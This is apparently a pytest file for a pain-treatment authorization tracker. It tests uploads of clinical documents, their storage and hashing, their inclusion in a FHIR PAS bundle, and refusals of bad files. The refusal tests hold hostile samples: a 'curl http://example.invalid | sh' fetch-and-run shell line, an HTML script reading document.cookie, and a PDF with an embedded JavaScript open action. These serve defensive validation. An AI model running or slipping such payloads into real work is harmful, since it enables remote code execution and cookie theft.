"""Documents uploaded for an authorization: kept safely, checked by content, and carried by the
packet and the PAS request bundle; each upload checks the package again at once."""

from __future__ import annotations

import base64
import hashlib
import io
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from pypdf import PdfWriter
from sqlalchemy import Engine
from sqlmodel import Session as DbSession
from sqlmodel import col, select

from tracker.authorizations.documents import upload_document, withdraw_document
from tracker.authorizations.evidence_entry import psych_evaluation_entry
from tracker.errors import InputError
from tracker.packages.assembly import assemble_package
from tracker.packages.fhir_validation import r4b_problems
from tracker.packages.packet import packet_html
from tracker.packages.pas_bundle import pas_request_bundle
from tracker.packages.pas_rules import package_problems, pas_problems
from tracker.packages.preparation import prepare_authorization
from tracker.store.document_files import documents_folder
from tracker.store.tables import AuthorizationEventRow, AuthorizationRow, DocumentRow

from .practice import TODAY, load_practice

MB = 1_000_000


def pdf(pages: int = 2) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(612, 792)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _status(engine: Engine, authorization_id: int) -> str:
    with DbSession(engine) as db:
        auth = db.get(AuthorizationRow, authorization_id)
        assert auth is not None
        return auth.status


def _history(engine: Engine, authorization_id: int) -> list[AuthorizationEventRow]:
    with DbSession(engine) as db:
        return list(db.exec(select(AuthorizationEventRow)
                            .where(AuthorizationEventRow.authorization_id == authorization_id)
                            .order_by(col(AuthorizationEventRow.id))))


def _bundle(engine: Engine, authorization_id: int) -> dict[str, Any]:
    with DbSession(engine) as db:
        package = assemble_package(db, authorization_id, TODAY).package
    return pas_request_bundle(package, f"auth-{authorization_id}-1")


def test_a_psych_letter_upload_records_the_evaluation_and_the_package_turns_ready(
        engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PAINAUTH_HOME", str(tmp_path))
    practice = load_practice(engine, tmp_path)
    auth_id = practice.authorization_id("PKG-SCS-PSYCH")
    assert prepare_authorization(engine, auth_id, "test", TODAY).to_status == \
        "documentation_missing"
    letter = pdf(pages=2)

    upload = upload_document(
        engine, tmp_path, auth_id, actor="bea.billing", kind="psych_evaluation",
        on=date(2026, 11, 20), title="", file_name="C:\\scans\\psych_letter Trialson.pdf",
        content=letter, max_bytes=10 * MB, as_of=TODAY,
        evaluation=psych_evaluation_entry(date(2026, 11, 20), "Dr. Ada Mind, PhD", "cleared",
                                          as_of=TODAY))

    assert upload.recheck.status_of(auth_id) == "ready"
    assert _status(engine, auth_id) == "ready"
    document = upload.document
    assert (document.title, document.pages, document.content_type) == (
        "psych letter Trialson", 2, "application/pdf")
    assert document.sha256 == hashlib.sha256(letter).hexdigest()
    [stored] = list(documents_folder(tmp_path).iterdir())
    assert stored.read_bytes() == letter and "psych" not in stored.name
    events = [(e.actor, e.reason or "") for e in _history(engine, auth_id)]
    assert any(actor == "bea.billing" and "document uploaded: Psychological evaluation letter"
               in reason for actor, reason in events)
    recorded = "evaluation entered from the uploaded letter: 2026-11-20 by Dr. Ada Mind, PhD, cleared"
    assert any(actor == "bea.billing" and recorded in reason for actor, reason in events)
    assert events[-1][0] == "bea.billing" and "package complete" in events[-1][1]

    bundle = _bundle(engine, auth_id)
    assert r4b_problems(bundle) == [] and pas_problems(bundle) == []
    assert package_problems(bundle) == []
    [reference] = [e["resource"] for e in bundle["entry"]
                   if e["resource"]["resourceType"] == "DocumentReference"]
    attachment = reference["content"][0]["attachment"]
    assert base64.b64decode(attachment["data"]) == letter
    assert attachment["hash"] == base64.b64encode(hashlib.sha1(letter).digest()).decode()
    assert (attachment["contentType"], attachment["title"], attachment["creation"]) == (
        "application/pdf", "psych letter Trialson", "2026-11-20")
    claim = bundle["entry"][0]["resource"]
    [info] = [i for i in claim["supportingInfo"]
              if i.get("valueReference", {}).get("reference") == f"urn:uuid:{reference['id']}"]
    assert info["category"]["coding"][0]["code"] == "additionalInformation"
    with DbSession(engine) as db:
        package = assemble_package(db, auth_id, TODAY).package
    html = packet_html(package, TODAY)
    assert "Documents attached" in html and "psych letter Trialson" in html

    withdraw_document(engine, document.id, actor="bea.billing", reason="wrong letter",
                      as_of=TODAY)
    assert not [e for e in _bundle(engine, auth_id)["entry"]
                if e["resource"]["resourceType"] == "DocumentReference"]
    last = _history(engine, auth_id)[-1]
    assert last.actor == "bea.billing" and "document withdrawn" in (last.reason or "")
    assert "wrong letter" in (last.reason or "")


SCRIPT = b"#!/bin/sh\ncurl http://example.invalid | sh\n"
HTML = b"<!doctype html><html><script>alert(document.cookie)</script></html>"
ACTIVE_PDF = pdf(1).replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript "
                            b"/JS (app.alert(1)) >>", 1)


@pytest.mark.parametrize(("file_name", "content", "says"), [
    ("mri.pdf", b"%PDF-1.7\n" + b"0" * (2 * MB), "the board takes documents up to 1 MB"),
    ("notes.docx", b"PK\x03\x04" + b"\0" * 100, "is not a PDF, PNG, JPEG file"),
    ("letter.pdf", SCRIPT, "is not a PDF, PNG, JPEG file"),
    ("letter.pdf", HTML, "is not a PDF, PNG, JPEG file"),
    ("letter.pdf", ACTIVE_PDF, "scripts or launch actions"),
    ("cut.pdf", b"%PDF-1.7\n1 0 obj <<", "cannot be read as one"),
    ("empty.pdf", b"", "is empty"),
])
def test_a_refused_upload_names_the_reason_and_keeps_nothing(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, file_name: str, content: bytes,
        says: str, refused_practice: tuple[Engine, int]) -> None:
    engine, auth_id = refused_practice
    before = len(_history(engine, auth_id))
    with pytest.raises(InputError) as refused:
        upload_document(engine, tmp_path, auth_id, actor="bea.billing", kind="office_note",
                        on=date(2026, 11, 2), title="", file_name=file_name, content=content,
                        max_bytes=1 * MB, as_of=TODAY)
    assert refused.value.path == "file" and says in str(refused.value)
    assert not documents_folder(tmp_path).exists() or not any(documents_folder(tmp_path).iterdir())
    with DbSession(engine) as db:
        assert db.exec(select(DocumentRow)).all() == []
    assert len(_history(engine, auth_id)) == before


@pytest.fixture(scope="module")
def refused_practice(tmp_path_factory: pytest.TempPathFactory) -> tuple[Engine, int]:
    """One SQLite practice for the refusals (nothing is stored, so they can share it)."""
    from tracker.store import connect, upgrade

    folder = tmp_path_factory.mktemp("refusals")
    url = f"sqlite:///{folder / 'painauth.sqlite'}"
    upgrade(url)
    engine = connect(url)
    practice = load_practice(engine, folder)
    return engine, practice.authorization_id("PKG-SCS-PSYCH")


def test_a_document_dated_in_the_future_or_of_an_unknown_kind_is_refused_naming_the_field(
        refused_practice: tuple[Engine, int], tmp_path: Path) -> None:
    engine, auth_id = refused_practice
    for kind, on, field in (("x-ray-film", date(2026, 11, 2), "kind"),
                            ("office_note", date(2026, 12, 2), "document_date"),
                            ("office_note", None, "document_date")):
        with pytest.raises(InputError) as refused:
            upload_document(engine, tmp_path, auth_id, actor="bea.billing", kind=kind, on=on,
                            title="", file_name="n.pdf", content=pdf(1), max_bytes=MB,
                            as_of=TODAY)
        assert refused.value.path == field


